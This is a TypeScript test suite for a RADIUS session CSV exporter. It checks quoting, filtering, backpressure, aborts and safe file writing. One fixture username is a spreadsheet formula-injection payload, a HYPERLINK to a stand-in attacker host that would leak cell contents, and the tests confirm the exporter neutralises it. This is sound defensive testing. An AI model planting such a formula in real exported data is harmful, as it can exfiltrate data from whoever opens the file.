/**
 * The export's streaming core against a real database: PostgreSQL when DATABASE_URL is set (CI), else the
 * embedded PGlite, through `pg` either way. Every CSV is read back with an independent RFC 4180 parser.
 */
import {execFileSync} from 'node:child_process';
import {
	createReadStream,
	existsSync,
	lstatSync,
	mkdirSync,
	mkdtempSync,
	readdirSync,
	readFileSync,
	readlinkSync,
	rmSync,
	statSync,
	symlinkSync,
	writeFileSync,
} from 'node:fs';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {PassThrough, Writable} from 'node:stream';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {NasDirectory} from '../../source/sessions/nas-directory.js';
import {DEFAULT_EXPORT_COLUMNS} from '../../source/sessions/export-sql.js';
import {ExportAbortedError, ExportLimitError, exportSessions, ExportOutputError, type ExportOptions} from '../../source/sessions/export.js';
import {exportSessionsToFile, ExportPathError} from '../../source/sessions/export-file.js';
import type {SessionFilter, SessionSort} from '../../source/sessions/session.js';
import {CSV_COLUMNS} from '../../source/sessions/session-view.js';
import {parseCsv} from '../helpers/parse-csv.js';
import {createTestDatabase, insertSessions, type TestDatabase} from '../helpers/test-database.js';

const ALL: SessionFilter = {status: 'all'};
const BY_ID: SessionSort = {key: 'start', direction: 'asc'};
const HUGE_OCTETS = '9007199254740993'; // 2^53 + 1: a JavaScript number would round it.

let database: TestDatabase;
let ids: string[];
let dir: string;

/** Collects everything written to it. */
class Sink extends Writable {
	text = '';

	override _write(chunk: Buffer, _encoding: BufferEncoding, done: (error?: Error | null) => void): void {
		this.text += chunk.toString('utf8');
		done();
	}
}

async function exported(
	filter: SessionFilter,
	sort: SessionSort,
	options: ExportOptions = {},
): Promise<{rows: number; records: string[][]}> {
	const sink = new Sink();
	const result = await exportSessions(database.pool, filter, sort, options, sink);
	return {rows: result.rows, records: parseCsv(sink.text)};
}

function field(records: string[][], row: number, column: string): string {
	const index = records[0]!.indexOf(column);
	if (index < 0) throw new Error(`no column ${column} in ${records[0]!.join(',')}`);
	return records[row]![index]!;
}

beforeAll(async () => {
	database = await createTestDatabase();
	dir = mkdtempSync(join(tmpdir(), 'radtop-export-'));
	await database.pool.query("INSERT INTO nas (nasname, shortname, type, secret) VALUES ('10.20.0.1', 'bng-1', 'other', 's3cret')");
	ids = await insertSessions(database.pool, [
		{username: 'alice', startedAgo: 7200, updatedAgo: 60, acctinterval: 300, acctinputoctets: 1000, acctoutputoctets: 5000},
		{
			username: '=HYPERLINK("http://evil.example/?"&A1,"help")',
			startedAgo: 7000,
			framedipaddress: '100.64.0.2',
			callingstationid: '+33 1 23',
		},
		{username: 'bob, "the builder"', startedAgo: 6900, callingstationid: '-AA:BB', nasipaddress: '10.20.0.9'},
		{username: 'line\r\nbreak', startedAgo: 6800, callingstationid: '@home', acctterminatecause: null},
		{
			username: 'carol',
			startedAgo: 6700,
			stoppedAgo: 600,
			acctterminatecause: 'User-Request',
			framedipaddress: null,
			callingstationid: null,
		},
		{username: '\tdave', startedAgo: 6600, stoppedAgo: 300, acctterminatecause: '\rLost-Carrier'},
		{username: 'stale-eve', startedAgo: 90_000, updatedAgo: 80_000, acctinterval: null},
	]);
	await database.pool.query('UPDATE radacct SET acctoutputoctets = $1::bigint WHERE radacctid = $2', [HUGE_OCTETS, ids[0]]);
	await database.pool.query("UPDATE radacct SET acctstarttime = '2020-02-29T10:45:12.345Z' WHERE radacctid = $1", [ids[0]]);
});

afterAll(async () => {
	await database?.close();
	if (dir) rmSync(dir, {recursive: true, force: true});
});

describe('exportSessions', () => {
	it('writes a header and every matching row as RFC 4180 CSV with CRLF line ends', async () => {
		const sink = new Sink();
		const result = await exportSessions(database.pool, ALL, BY_ID, {}, sink);
		expect(result.rows).toBe(ids.length);
		expect(sink.text.endsWith('\r\n')).toBe(true);
		// Every LF is part of a CRLF: the record ends and the one inside the quoted username.
		expect(sink.text.match(/\n/g)!.length).toBe(sink.text.match(/\r\n/g)!.length);
		const records = parseCsv(sink.text);
		expect(records[0]).toEqual([...DEFAULT_EXPORT_COLUMNS]);
		expect(records).toHaveLength(ids.length + 1);
		expect(records.every((record) => record.length === DEFAULT_EXPORT_COLUMNS.length)).toBe(true);
	});

	it('has by default the columns of radtop sessions --csv', () => {
		expect([...DEFAULT_EXPORT_COLUMNS]).toEqual([...CSV_COLUMNS]);
	});

	it('writes values exactly: UTC timestamps with milliseconds, bigint octets, addresses without /32, NAS names', async () => {
		const {records} = await exported(ALL, BY_ID);
		const alice = records.findIndex((record) => record[1] === 'alice');
		expect(field(records, alice, 'radacctid')).toBe(ids[0]);
		expect(field(records, alice, 'acctstarttime')).toBe('2020-02-29T10:45:12.345Z');
		expect(field(records, alice, 'acctupdatetime')).toMatch(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
		expect(field(records, alice, 'downOctets')).toBe(HUGE_OCTETS);
		expect(field(records, alice, 'upOctets')).toBe('1000');
		expect(field(records, alice, 'nasipaddress')).toBe('10.20.0.1');
		expect(field(records, alice, 'nas')).toBe('bng-1');
		expect(field(records, alice, 'framedipaddress')).toBe('100.64.0.1');
		expect(field(records, alice, 'acctstoptime')).toBe('');
		expect(field(records, alice, 'state')).toBe('online');
		const bob = records.findIndex((record) => record[1] === 'bob, "the builder"');
		// A NAS missing from the nas table is named by its address.
		expect(field(records, bob, 'nas')).toBe('10.20.0.9');
		const carol = records.findIndex((record) => record[1] === 'carol');
		expect(field(records, carol, 'state')).toBe('offline');
		expect(field(records, carol, 'framedipaddress')).toBe('');
		expect(Number(field(records, carol, 'durationSeconds'))).toBe(6100);
		const eve = records.findIndex((record) => record[1] === 'stale-eve');
		expect(field(records, eve, 'state')).toBe('stale');
	});

	it('neutralises fields a spreadsheet would run as a formula, and --raw leaves them as stored', async () => {
		const guarded = (await exported(ALL, BY_ID)).records;
		const raw = (await exported(ALL, BY_ID, {raw: true})).records;
		const at = (records: string[][], id: string) => records.findIndex((record) => record[0] === id);
		expect(field(guarded, at(guarded, ids[1]!), 'username')).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"help")');
		expect(field(guarded, at(guarded, ids[1]!), 'callingstationid')).toBe("'+33 1 23");
		expect(field(guarded, at(guarded, ids[2]!), 'callingstationid')).toBe("'-AA:BB");
		expect(field(guarded, at(guarded, ids[3]!), 'callingstationid')).toBe("'@home");
		expect(field(guarded, at(guarded, ids[5]!), 'username')).toBe("'\tdave");
		expect(field(guarded, at(guarded, ids[5]!), 'acctterminatecause')).toBe("'\rLost-Carrier");
		expect(field(raw, at(raw, ids[1]!), 'username')).toBe('=HYPERLINK("http://evil.example/?"&A1,"help")');
		expect(field(raw, at(raw, ids[5]!), 'username')).toBe('\tdave');
		// Quoting round-trips commas, quotes and line breaks either way; plain text is never guarded.
		for (const records of [guarded, raw]) {
			expect(field(records, at(records, ids[2]!), 'username')).toBe('bob, "the builder"');
			expect(field(records, at(records, ids[3]!), 'username')).toBe('line\r\nbreak');
			expect(field(records, at(records, ids[0]!), 'username')).toBe('alice');
		}
	});

	it('shows control characters as escapes when the CSV goes to a terminal', async () => {
		const {records} = await exported(ALL, BY_ID, {forTerminal: true, columns: ['radacctid', 'username']});
		expect(records.find((record) => record[0] === ids[3])?.[1]).toBe('line\\r\\nbreak');
		expect(records.find((record) => record[0] === ids[5])?.[1]).toBe("'\\tdave");
	});

	it('takes columns in the order given, including radacct columns beyond the default', async () => {
		const {records} = await exported({status: 'active', search: 'alice'}, BY_ID, {
			columns: ['username', 'acctinterval', 'acctoutputoctets', 'nasporttype'],
		});
		expect(records).toEqual([
			['username', 'acctinterval', 'acctoutputoctets', 'nasporttype'],
			['alice', '300', HUGE_OCTETS, 'Ethernet'],
		]);
	});

	it('applies the filters and the sort of radtop sessions', async () => {
		const closed = await exported({status: 'closed'}, {key: 'user', direction: 'asc'}, {columns: ['username']});
		expect(closed.records).toEqual([['username'], ["'\tdave"], ['carol']]);
		const nas = await exported({status: 'all', nasIps: ['10.20.0.9']}, BY_ID, {columns: ['radacctid']});
		expect(nas.records).toEqual([['radacctid'], [ids[2]]]);
		const window = await exported(
			{status: 'all', startedFrom: new Date(Date.now() - 6950_000), startedTo: new Date(Date.now() - 6650_000)},
			{key: 'start', direction: 'desc'},
			{columns: ['radacctid']},
		);
		expect(window.records.slice(1).map((record) => record[0])).toEqual([ids[4], ids[3], ids[2]]);
		const search = await exported({status: 'all', search: 'BUILDER'}, BY_ID, {columns: ['radacctid']});
		expect(search.records).toEqual([['radacctid'], [ids[2]]]);
	});

	it('uses the NAS names it is given over the nas table', async () => {
		const nas = new NasDirectory([{ip: '10.20.0.9', name: 'bng-9', source: 'config'}]);
		const {records} = await exported({status: 'all', nasIps: ['10.20.0.1', '10.20.0.9']}, BY_ID, {columns: ['radacctid', 'nas'], nas});
		expect(records.find((record) => record[0] === ids[2])?.[1]).toBe('bng-9');
		expect(records.find((record) => record[0] === ids[0])?.[1]).toBe('10.20.0.1');
	});

	it('refuses, before writing anything, when more sessions match than the cap', async () => {
		const sink = new Sink();
		await expect(exportSessions(database.pool, ALL, BY_ID, {limit: ids.length - 1}, sink)).rejects.toBeInstanceOf(ExportLimitError);
		expect(sink.text).toBe('');
		const exact = await exported(ALL, BY_ID, {limit: ids.length});
		expect(exact.rows).toBe(ids.length);
		const unlimited = await exported(ALL, BY_ID, {limit: null});
		expect(unlimited.rows).toBe(ids.length);
	});

	it('reads radacct columns an older schema lacks as empty', async () => {
		const older = await createTestDatabase();
		try {
			await older.pool.query('ALTER TABLE radacct DROP COLUMN acctinterval, DROP COLUMN class, DROP COLUMN framedipv6address');
			await insertOlder(older);
			const sink = new Sink();
			await exportSessions(older.pool, ALL, BY_ID, {columns: ['username', 'class', 'framedipv6address', 'state']}, sink);
			expect(parseCsv(sink.text)).toEqual([
				['username', 'class', 'framedipv6address', 'state'],
				['old', '', '', 'online'],
			]);
		} finally {
			await older.close();
		}
	});

	it('waits for a slow reader (backpressure) and still writes every row', async () => {
		await database.pool.query(
			`INSERT INTO radacct (acctsessionid, acctuniqueid, username, nasipaddress, acctstarttime, acctstoptime)
			SELECT 'bulk' || i, 'bulk-unique-' || i, 'bulk' || i, '10.30.0.1', now() - interval '2 days' + i * interval '1 second', now() - interval '1 day'
			FROM generate_series(1, 20000) AS i`,
		);
		let writes = 0;
		let text = '';
		const slow = new Writable({
			highWaterMark: 1024,
			write(chunk: Buffer, _encoding, done) {
				writes += 1;
				text += chunk.toString('utf8');
				setTimeout(done, 1);
			},
		});
		const columns = ['username', 'acctuniqueid', 'acctsessionid', 'acctstarttime'];
		const result = await exportSessions(database.pool, {status: 'closed', nasIps: ['10.30.0.1']}, BY_ID, {columns}, slow);
		expect(result.rows).toBe(20000);
		const records = parseCsv(text);
		expect(records).toHaveLength(20001);
		expect(records[1]!.slice(0, 3)).toEqual(['bulk1', 'bulk-unique-1', 'bulk1']);
		expect(records[20000]!.slice(0, 3)).toEqual(['bulk20000', 'bulk-unique-20000', 'bulk20000']);
		expect(writes).toBeGreaterThan(1);
		// The connection went back to the pool in a clean state.
		expect((await database.pool.query('SELECT 1 AS ok')).rows[0].ok).toBe(1);
	});

	it('stops when aborted, rejects with ExportAbortedError, and the pool still works', async () => {
		const abort = new AbortController();
		const out = new PassThrough();
		let seen = 0;
		out.on('data', (chunk: Buffer) => {
			seen += chunk.length;
			if (seen > 64 * 1024) abort.abort();
		});
		const filter: SessionFilter = {status: 'closed', nasIps: ['10.30.0.1']};
		await expect(
			exportSessions(database.pool, filter, BY_ID, {columns: ['username', 'acctuniqueid'], signal: abort.signal}, out),
		).rejects.toBeInstanceOf(ExportAbortedError);
		expect((await database.pool.query('SELECT 1 AS ok')).rows[0].ok).toBe(1);
		const already = new AbortController();
		already.abort();
		await expect(exportSessions(database.pool, filter, BY_ID, {signal: already.signal}, new Sink())).rejects.toThrow();
	});

	it('reports a failing output as ExportOutputError', async () => {
		const failing = new Writable({
			write(_chunk, _encoding, done) {
				done(new Error('disk full'));
			},
		});
		failing.on('error', () => undefined);
		await expect(exportSessions(database.pool, {status: 'closed', nasIps: ['10.30.0.1']}, BY_ID, {}, failing)).rejects.toBeInstanceOf(
			ExportOutputError,
		);
		expect((await database.pool.query('SELECT 1 AS ok')).rows[0].ok).toBe(1);
	});
});

async function insertOlder(db: TestDatabase): Promise<void> {
	await db.pool.query(
		"INSERT INTO radacct (acctsessionid, acctuniqueid, username, nasipaddress, acctstarttime, acctupdatetime) VALUES ('o1', 'o1', 'old', '10.0.0.1', now(), now())",
	);
}

describe('exportSessionsToFile', () => {
	it('writes the file with mode 0600, leaving no temporary file behind', async () => {
		const path = join(dir, 'sessions.csv');
		const result = await exportSessionsToFile(database.pool, {status: 'active', search: 'alice'}, BY_ID, {}, path);
		expect(result).toEqual({rows: 1, path});
		expect(statSync(path).mode & 0o777).toBe(0o600);
		expect(parseCsv(readFileSync(path, 'utf8'))).toHaveLength(2);
		expect(readdirSync(dir)).toEqual(['sessions.csv']);
	});

	it('into a file, checks the cap as the rows come instead of counting first: exactly the cap passes, one more fails with no file', async () => {
		const path = join(dir, 'capped.csv');
		const count = Number((await database.pool.query('SELECT count(*) AS n FROM radacct')).rows[0].n);
		const exact = await exportSessionsToFile(database.pool, ALL, BY_ID, {limit: count}, path);
		expect(exact.rows).toBe(count);
		expect(parseCsv(readFileSync(path, 'utf8'))).toHaveLength(count + 1);
		rmSync(path);
		await expect(exportSessionsToFile(database.pool, ALL, BY_ID, {limit: count - 1}, path)).rejects.toBeInstanceOf(ExportLimitError);
		expect(readdirSync(dir).filter((name) => name.startsWith('capped') || name.includes('partial'))).toEqual([]);
		// The connection whose COPY was cut is dropped; the pool goes on.
		expect((await database.pool.query('SELECT 1 AS one')).rows).toEqual([{one: 1}]);
	});

	it('leaves an existing file as it was and no partial file when the export fails', async () => {
		const path = join(dir, 'kept.csv');
		writeFileSync(path, 'previous export\r\n');
		await expect(exportSessionsToFile(database.pool, ALL, BY_ID, {limit: 1}, path)).rejects.toBeInstanceOf(ExportLimitError);
		expect(readFileSync(path, 'utf8')).toBe('previous export\r\n');
		const abort = new AbortController();
		const aborted = exportSessionsToFile(
			database.pool,
			{status: 'closed', nasIps: ['10.30.0.1']},
			BY_ID,
			{signal: abort.signal, onProgress: () => abort.abort()},
			path,
		);
		await expect(aborted).rejects.toBeInstanceOf(ExportAbortedError);
		expect(readFileSync(path, 'utf8')).toBe('previous export\r\n');
		expect(readdirSync(dir).filter((name) => name.includes('partial'))).toEqual([]);
	});

	it('refuses a directory at once, reading nothing from the database', async () => {
		const sub = join(dir, 'a-directory');
		mkdirSync(sub);
		let connected = 0;
		const counting = {
			...database.pool,
			query: database.pool.query.bind(database.pool),
			connect: async () => (connected++, database.pool.connect()),
		};
		await expect(exportSessionsToFile(counting as never, ALL, BY_ID, {}, sub)).rejects.toBeInstanceOf(ExportPathError);
		await expect(exportSessionsToFile(counting as never, ALL, BY_ID, {}, `${sub}/`)).rejects.toThrow(/is a directory/);
		// A trailing slash names a directory, even one that does not exist yet.
		await expect(exportSessionsToFile(counting as never, ALL, BY_ID, {}, join(dir, 'no-such-dir/'))).rejects.toBeInstanceOf(
			ExportPathError,
		);
		expect(connected).toBe(0);
		expect(readdirSync(sub)).toEqual([]);
		expect(readdirSync(dir).filter((name) => name.includes('partial'))).toEqual([]);
	});

	it('replaces the file a symbolic link points to, and keeps the link', async () => {
		const targets = join(dir, 'targets');
		mkdirSync(targets);
		const file = join(targets, 'real.csv');
		writeFileSync(file, 'previous export\r\n');
		const link = join(dir, 'link.csv');
		symlinkSync(join('targets', 'real.csv'), link);
		const result = await exportSessionsToFile(database.pool, {status: 'active', search: 'alice'}, BY_ID, {}, link);
		expect(result).toEqual({rows: 1, path: link});
		expect(lstatSync(link).isSymbolicLink()).toBe(true);
		expect(readlinkSync(link)).toBe(join('targets', 'real.csv'));
		expect(parseCsv(readFileSync(file, 'utf8'))).toHaveLength(2);
		expect(statSync(file).mode & 0o777).toBe(0o600);
		// The temporary file was beside the target, and is gone.
		expect(readdirSync(targets)).toEqual(['real.csv']);
		// A dangling link: the file it names is created.
		const dangling = join(dir, 'dangling.csv');
		symlinkSync(join('targets', 'new.csv'), dangling);
		await exportSessionsToFile(database.pool, {status: 'active', search: 'alice'}, BY_ID, {}, dangling);
		expect(lstatSync(dangling).isSymbolicLink()).toBe(true);
		expect(parseCsv(readFileSync(join(targets, 'new.csv'), 'utf8'))).toHaveLength(2);
		rmSync(link);
		rmSync(dangling);
		rmSync(targets, {recursive: true});
	});

	it('writes into a FIFO directly, waiting for its reader, with no temporary file', async () => {
		const fifo = join(dir, 'export.fifo');
		execFileSync('mkfifo', [fifo]);
		const exporting = exportSessionsToFile(
			database.pool,
			{status: 'closed', nasIps: ['10.30.0.1']},
			BY_ID,
			{columns: ['username']},
			fifo,
		);
		// The reader comes later: the export waits for it.
		await new Promise((resolve) => setTimeout(resolve, 300));
		let text = '';
		const reader = createReadStream(fifo);
		reader.on('data', (chunk) => (text += chunk.toString()));
		const ended = new Promise<void>((resolve) => reader.on('end', () => resolve()));
		const result = await exporting;
		await ended;
		expect(result).toEqual({rows: 20000, path: fifo});
		expect(parseCsv(text)).toHaveLength(20001);
		expect(statSync(fifo).isFIFO()).toBe(true);
		expect(readdirSync(dir).filter((name) => name.includes('partial'))).toEqual([]);
		// Waiting for a reader that never comes can be aborted.
		const abort = new AbortController();
		const waiting = exportSessionsToFile(database.pool, ALL, BY_ID, {signal: abort.signal}, fifo);
		setTimeout(() => abort.abort(), 200);
		await expect(waiting).rejects.toBeInstanceOf(ExportAbortedError);
		expect(statSync(fifo).isFIFO()).toBe(true);
		rmSync(fifo);
	});

	it('fails on a directory that does not exist, writing nothing', async () => {
		const path = join(dir, 'missing', 'x.csv');
		await expect(exportSessionsToFile(database.pool, ALL, BY_ID, {}, path)).rejects.toThrow(/ENOENT/);
		expect(existsSync(path)).toBe(false);
	});
});
